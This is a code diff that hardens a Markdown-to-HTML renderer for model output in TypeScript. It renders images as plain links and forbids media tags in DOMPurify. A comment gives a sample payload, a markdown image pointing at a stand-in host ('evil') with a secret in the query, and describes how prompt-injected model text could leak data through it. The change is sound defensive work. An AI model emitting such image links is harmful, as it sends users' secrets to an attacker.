@@ -1,7 +1,8 @@
 // Markdown to safe HTML. The model's text is untrusted: raw HTML in it is
 // shown as text (never parsed), and the produced HTML goes through DOMPurify
 // as a second line of defence, so `<script>`, `onerror=` and `javascript:`
-// links cannot run.
+// links cannot run. Images are never loaded (see `image` below), and the
+// page's Content-Security-Policy (Nginx) allows only its own and data: ones.
 
 import DOMPurify from 'dompurify';
 import { Marked, type Tokens } from 'marked';
@@ -16,6 +17,12 @@ const marked = new Marked({
     // Raw HTML in an answer is text, not markup.
     html(token: Tokens.HTML | Tokens.Tag): string {
       return escapeHtml(token.text);
+    },
+    // An image is shown as a link, never loaded: a prompt-injected
+    // `![](https://evil/?q=secret)` would otherwise leak with no click.
+    image(token: Tokens.Image): string {
+      const label = token.text || token.href;
+      return `<a href="${escapeHtml(token.href)}" class="image-link">${escapeHtml(label)}</a>`;
     },
     code(token: Tokens.Code): string {
       const lang = (token.lang ?? '').trim().split(/\s+/)[0] ?? '';
@@ -49,7 +56,7 @@ export function renderMarkdown(text: string): string {
   const html = marked.parse(text, { async: false }) as string;
   return purifier().sanitize(html, {
     USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed'],
+    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed', 'img', 'picture', 'video', 'audio', 'source'],
     FORBID_ATTR: ['style'],
   });
 }
